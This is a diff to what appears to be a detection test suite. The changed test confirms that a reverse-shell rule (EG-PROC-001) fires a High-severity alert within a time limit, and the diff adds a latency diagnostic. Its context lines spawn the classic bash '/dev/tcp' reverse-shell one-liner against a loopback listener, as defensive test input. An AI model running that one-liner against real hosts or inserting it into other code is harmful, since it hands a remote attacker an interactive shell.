@@ -82,7 +82,7 @@ after(async () => {
   }
 });
 
-test('reverse shell: a shell whose stdin/stdout is a TCP socket to a loopback listener -> EG-PROC-001 upstream within 5 s', { skip, timeout: 30_000 }, async () => {
+test('reverse shell: a shell whose stdin/stdout is a TCP socket to a loopback listener -> EG-PROC-001 upstream within 5 s', { skip, timeout: 30_000 }, async (t) => {
   const server = net.createServer((socket) => {
     socket.write('exit\n');
     socket.on('error', () => undefined);
@@ -94,6 +94,7 @@ test('reverse shell: a shell whose stdin/stdout is a TCP socket to a loopback li
   // The classic one-liner: bash's /dev/tcp redirection, then an interactive shell on the socket.
   const child = spawn('bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { stdio: 'ignore' });
   const { ms, alert } = await alertLatency('EG-PROC-001', since);
+  t.diagnostic(`EG-PROC-001 action -> stand-in: ${ms} ms`);
   child.kill('SIGKILL');
   assert.ok(ms < LATENCY_LIMIT_MS, `alert arrived after ${ms} ms`);
   assert.equal(alert.Severity, 'High');
